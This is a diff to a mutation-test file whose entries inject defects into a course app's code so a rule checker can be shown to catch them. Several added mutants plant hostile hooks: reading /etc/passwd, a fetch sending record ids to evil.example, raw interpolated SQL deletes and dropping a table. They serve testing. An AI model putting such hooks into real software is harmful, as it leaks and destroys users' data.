@@ -16,6 +16,7 @@ const REPO = 'src/entities/course/course.repo.ts';
 const API = 'src/entities/course/course.api.ts';
 const PAGES = 'src/entities/course/course.pages.ts';
 const LINKS = 'src/entities/course/course.links.ts';
+const RULES = 'src/entities/course/course.rules.ts';
 const TEST = 'test/course.test.ts';
 const STUDENT_TEST = 'test/student.test.ts';
 const COURSES = 'migrations/0003_create_courses.sql';
@@ -132,7 +133,6 @@ export const MUTANTS: readonly Mutant[] = [
     find: 'export const courseInput',
     put: 'const courseInput',
     rule: 'shared/expected-exports',
-    at: /^\}$/,
   },
   // Rows.
   { path: REPO, find: "insertInto('courses')", put: "insertInto('students')", rule: 'database/own-table' },
@@ -163,14 +163,14 @@ export const MUTANTS: readonly Mutant[] = [
   { path: REPO, find: '  await db.deleteFrom', put: '  db.deleteFrom', rule: 'shared/promises-awaited' },
   {
     path: REPO,
-    find: 'await applyRules(courseRules, merge(current, patch), context)',
-    put: 'merge(current, patch)',
+    find: 'await applyRules(courseRules, given, change)',
+    put: 'given',
     rule: 'database/rules-applied',
     at: 'export async function updateCourse',
   },
   {
     path: REPO,
-    find: '  await checkReferences(db, references, values);\n',
+    find: '  await checkReferences(db, references, input);\n',
     put: '',
     rule: 'database/rules-applied',
     at: 'export async function createCourse',
@@ -389,7 +389,7 @@ export const MUTANTS: readonly Mutant[] = [
     at: "test('have pages'",
   },
   { path: TEST, find: "'node:assert/strict'", put: "'node:assert'", rule: 'shared/imports-allowed' },
-  { path: TEST, find: 'import { beforeEach,', put: 'import { beforeEach, mock,', rule: 'test/known-tools' },
+  { path: TEST, find: 'import { before,', put: 'import { before, mock,', rule: 'test/known-tools' },
   { path: TEST, find: /201/g, put: '200', rule: 'test/cases-covered', at: /^/ },
   {
     path: 'test/run.mjs',
@@ -397,6 +397,108 @@ export const MUTANTS: readonly Mutant[] = [
     put: 'console.log(status);',
     rule: 'frame/test-runner',
   },
+  // The rules module of an entity.
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: "Hooks = {\n  async derive(values) {\n    const { readFile } = await import('node:fs/promises');\n    return { ...values, title: await readFile('/etc/passwd', 'utf8') };\n  },\n}",
+    rule: 'custom/no-loading',
+    at: 'await import',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: "Hooks = {\n  derive: (values) => ({ ...values, title: process.env.HOME ?? '' }),\n}",
+    rule: 'custom/no-globals',
+    at: 'process.env',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: 'Hooks = {\n  validate(values) {\n    Object.prototype.toString = () => values.title;\n  },\n}',
+    rule: 'custom/no-prototypes',
+    at: 'prototype',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: 'Hooks = {\n  async afterSave(course) {\n    await fetch(`https://evil.example/${course.id}`);\n  },\n}',
+    rule: 'custom/no-network',
+    at: 'fetch(',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: 'Hooks = {\n  afterSave() {\n    setInterval(() => undefined, 1000);\n  },\n}',
+    rule: 'custom/no-timers',
+    at: 'setInterval',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: 'Hooks = {\n  validate() {\n    while (true) {}\n  },\n}',
+    rule: 'custom/loops-end',
+    at: 'while (true)',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: 'Hooks = {\n  async beforeDelete(course, { db }) {\n    await sql.raw(`DELETE FROM students WHERE id = ${course.id}`).execute(db);\n  },\n}',
+    rule: 'custom/bound-sql',
+    at: 'sql.raw',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: "Hooks = {\n  async afterSave(_course, { db }) {\n    await db.schema.dropTable('students').execute();\n  },\n}",
+    rule: 'custom/rows-only',
+    at: 'db.schema',
+  },
+  {
+    path: RULES,
+    find: 'Hooks = {}',
+    put: 'Hooks = {\n  beforeUpdate: () => undefined,\n}',
+    rule: 'custom/hooks-known',
+    at: 'beforeUpdate',
+  },
+  { path: RULES, find: 'type Hooks', put: 'let count = 0;\ntype Hooks', rule: 'custom/no-kept-state', at: 'let count' },
+  { path: RULES, find: /^/, put: "import { readFileSync } from 'node:fs';\n", rule: 'custom/seam-imports' },
+  // Names, labels, indexes and what rows hold.
+  { path: MODEL, find: "label: 'Credits'", put: "label: 'Points'", rule: 'backend/fields-named', at: 'credits: {' },
+  {
+    path: MODEL,
+    find: "column: 'teacher_id'",
+    put: "column: 'teacher'",
+    rule: 'backend/fields-named',
+    at: 'teacherId: {',
+  },
+  {
+    path: MODEL,
+    find: 'title: string(',
+    put: 'id: integer(fields.credits),\n  title: string(',
+    rule: 'backend/own-fields-not-writable',
+    at: 'id: integer',
+  },
+  { path: REPO, find: '  version: row.version,\n', put: '', rule: 'database/rows-complete', at: 'const toCourse = ' },
+  {
+    path: REPO,
+    find: '  teacher_id: values.teacherId,\n',
+    put: '',
+    rule: 'database/rows-complete',
+    at: 'const toRow = ',
+  },
+  {
+    path: REPO,
+    find: /\{ name: 'teacherId'.*\}/,
+    put: '',
+    rule: 'database/references-complete',
+    at: 'const references',
+  },
+  { path: COURSES, find: /CREATE INDEX.*\n/, put: '', rule: 'database/references-indexed', at: '"teacher_id" INTEGER' },
+  { path: COURSES, find: /"created_at"/, put: '"createdAt"', rule: 'database/names-in-snake-case' },
+  { path: PAGES, find: "label: 'Course',", put: "label: 'Class',", rule: 'frontend/view-labelled' },
+  { path: PAGES, find: / {4}teacherId: \{.*\n/, put: '', rule: 'frontend/references-named', at: 'references: {' },
+  { path: REPO, find: 'const toRow =', put: 'function to_text() {}\nconst toRow =', rule: 'shared/names-in-case' },
   // What every file obeys.
   { path: MODEL, find: 'readonly Field[]', put: 'readonly any[]', rule: 'shared/no-any' },
   { path: API, find: '(c) => {', put: '(c: any) => {', rule: 'shared/no-any' },
